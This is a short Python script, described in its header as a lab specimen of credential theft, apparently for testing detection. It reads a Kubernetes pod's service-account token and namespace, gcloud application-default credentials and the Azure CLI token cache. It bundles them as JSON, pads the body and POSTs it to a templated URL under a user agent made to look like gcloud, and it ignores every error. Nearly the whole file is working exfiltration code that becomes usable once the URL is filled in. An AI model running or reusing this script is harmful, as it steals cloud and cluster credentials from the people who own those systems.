#!/usr/bin/python3
# kcsi lab specimen: credential theft with Python's urllib. Reads the pod's service-account
# token and namespace, gcloud's application-default credentials and the Azure CLI token cache
# of the home directory, and POSTs them (JSON, base64) to @@URL@@ with a gcloud-like user
# agent; the receiver reads the headers only, so the body waits in the send queue.
import base64, json, os, socket, urllib.request

def read(p):
    try:
        with open(os.path.expanduser(p), "rb") as f:
            return f.read()
    except OSError:
        return b""

sa = "/var/run/secrets/kubernetes.io/serviceaccount"
loot = {
    "node": socket.gethostname(),
    "ns": read(sa + "/namespace").decode(errors="replace"),
    "sa": read(sa + "/token").decode(errors="replace"),
    "adc": read("~/.config/gcloud/application_default_credentials.json").decode(errors="replace"),
    "az": read("~/.azure/msal_token_cache.json").decode(errors="replace"),
}
body = json.dumps(loot).encode()
body += b" " * max(0, 65536 - len(body))
req = urllib.request.Request("@@URL@@", data=body, method="POST",
                             headers={"User-Agent": "@@UA@@", "Content-Type": "application/json"})
try:
    urllib.request.urlopen(req, timeout=3600).read()
except Exception:
    pass
